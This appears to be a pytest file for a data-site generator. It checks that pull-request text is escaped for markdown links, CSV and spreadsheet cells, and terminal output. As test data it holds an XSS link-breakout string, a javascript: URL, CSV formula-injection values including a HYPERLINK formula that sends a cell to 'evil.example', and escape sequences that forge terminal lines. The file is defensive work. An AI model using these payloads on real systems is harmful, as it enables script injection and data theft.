"""Text from a pull request is escaped for where it lands: a link, a spreadsheet cell, a terminal."""

import csv
import io
import shutil

import openpyxl
import pandas as pd
import pytest

from generator.build import Project, build_site
from generator.core.formula_guard import guard, unguard
from generator.core.problems import ERROR, Problem, Summary, render_github, render_text
from generator.inputs.registry import load_registry
from generator.inputs.scaffold import ScaffoldError, scaffold_package
from generator.inputs.spreadsheet.template import template_bytes
from generator.outputs.site.escaping import link_target as markdown_url
from generator.outputs.snapshot import take_snapshot
from generator.validation.validate import validate
from support import GOOD_ROW, ROOT, write_package

HOSTILE_URL = "https://example.org/report.pdf) <script>alert(1)</script>"


@pytest.mark.parametrize(
    "path",
    [
        HOSTILE_URL,
        "https://example.org/a b.pdf",
        'https://example.org/"onmouseover="x',
        "javascript:alert(1)",
        "ftp://example.org/report.pdf",
        "https://",
        "https://example.org/\x1b[2K",
    ],
)
def test_a_source_path_that_is_not_a_plain_web_address_is_refused(tmp_path, path):
    package = write_package(tmp_path / "p", sources=[{"title": "Report", "path": path}])
    result = validate([package], root=tmp_path, registry_parent=ROOT / "datapackages")
    [problem] = [p for p in result.problems if p.severity == ERROR]
    assert (problem.check, problem.column) == ("source-url", "sources[1].path")


def test_plain_web_addresses_are_accepted(tmp_path):
    path = "https://democracy.leics.gov.uk/documents/s152929/Report%20(final).pdf?a=1&b=2#page=3"
    path = path.replace("(", "%28").replace(")", "%29")
    package = write_package(tmp_path / "p", sources=[{"title": "Report", "path": path}])
    assert validate([package], root=tmp_path, registry_parent=ROOT / "datapackages").ok


def test_a_url_in_a_markdown_link_cannot_close_the_link_or_open_html():
    escaped = markdown_url(HOSTILE_URL)
    assert not set(escaped) & set(" ()<>\"'[]\\`")
    assert escaped.startswith("https://example.org/report.pdf%29%20%3Cscript%3E")
    plain = "https://example.org/a/b.pdf?x=1&y=%20#p3"
    assert markdown_url(plain) == plain


def test_new_refuses_a_source_url_that_would_break_out_of_its_link(tmp_path):
    shutil.copytree(ROOT / "datapackages/registry", tmp_path / "datapackages/registry")
    with pytest.raises(ScaffoldError, match="not a plain"):
        scaffold_package(
            tmp_path / "datapackages",
            "p",
            authority="E10000018",
            title="t",
            committee="c",
            meeting_date="2020-06-02",
            publisher="p",
            source_url=HOSTILE_URL,
        )
    assert not (tmp_path / "datapackages/p").exists()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''@x", "'x", "x", ""])
def test_the_formula_guard_is_undone_exactly(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(("=", "+", "-", "@", "\t", "\r"))


FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def hostile_inputs(one_report):
    """A project of one real report plus one valid package whose text a spreadsheet would run."""
    project = one_report
    rows = [
        {**GOOD_ROW, "note": FORMULA_NOTE, "provenance": "@SUM(1+1)"},
        {**GOOD_ROW, "period": "2020-05-18", "breakdown_dimension": "age", "breakdown_category": "-5 years",
         "value": "530", "note": "+ see para 3"},
        {**GOOD_ROW, "indicator_id": "ks2_progress_score", "period": "AY2018/19", "value": "-5"},
    ]  # fmt: skip
    write_package(project / "datapackages/hostile", rows)
    return project


@pytest.fixture
def hostile_build(hostile_inputs):
    """That project built."""
    build_site(Project(hostile_inputs))
    return hostile_inputs


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_public_csv_cells_a_spreadsheet_would_run_are_guarded_and_numbers_are_not(hostile_build):
    for name in ("site/downloads/observations.csv", "site/reports/hostile/data.csv"):
        rows = [r for r in _rows((hostile_build / name).read_text()) if r["source_package"] == "hostile"]
        assert [r["note"] for r in rows] == ["'" + FORMULA_NOTE, "'+ see para 3", ""], name
        assert rows[0]["provenance"] == "'@SUM(1+1)"
        assert rows[1]["breakdown_category"] == "'-5 years" and rows[1]["breakdown"] == "age: -5 years"
        assert rows[2]["value"] == "-5", name  # a number is never changed
    data = pd.read_json(hostile_build / "site/reports/hostile/data.json")
    assert FORMULA_NOTE in data["note"].tolist()  # JSON is not a spreadsheet: the text is as written


def test_the_published_record_reads_back_guarded_cells_as_they_were(hostile_inputs):
    # The record is taken from the packages, so nothing needs building.
    project = hostile_inputs
    record = project / "published/observations.csv"
    assert take_snapshot(project / "datapackages", record, root=project).ok
    assert "'-5 years" in record.read_text()
    again = validate(
        [project / "datapackages"], root=project, registry_parent=project / "datapackages", published=record
    )
    assert not [p for p in again.problems if p.check == "revision-notes"]
    # and a real change to the guarded figure is still caught
    package = project / "datapackages/hostile/observations.csv"
    package.write_text(package.read_text().replace(",530,", ",531,"), encoding="utf-8")
    changed = validate(
        [project / "datapackages"], root=project, registry_parent=project / "datapackages", published=record
    )
    assert [p.check for p in changed.errors] == ["revision-notes"]


def test_registry_text_in_the_template_workbook_is_never_a_formula(tmp_path):
    shutil.copytree(ROOT / "datapackages/registry", tmp_path / "datapackages/registry")
    areas = tmp_path / "datapackages/registry/authorities.csv"
    areas.write_text(areas.read_text().replace(",England,", ',"=HYPERLINK(""x"")",'), encoding="utf-8")
    registry, _ = load_registry(tmp_path / "datapackages", tmp_path)
    workbook = openpyxl.load_workbook(io.BytesIO(template_bytes(registry)))
    [cell] = [c for row in workbook["Areas"].iter_rows() for c in row if c.value == '=HYPERLINK("x")']
    assert cell.data_type == "s" and cell.quotePrefix


def test_control_characters_in_problems_cannot_forge_terminal_lines_or_annotations():
    forged = "bad\x1b[2K\r\nValid.\x1b]8;;x\x07"
    problem = Problem(
        f"p{forged}.csv", 2, "note", "cell-characters", ERROR, f"note {forged}", f"fix {forged}"
    )
    summary = Summary(1, 1, 1)
    text = render_text([problem], summary)
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert [line for line in text.splitlines() if line.startswith("Valid.")] == []
    assert "\\x1b[2K" in text
    github = render_github([problem], summary)
    assert "\x1b" not in github and "\x07" not in github
    assert len(github.splitlines()) == 2
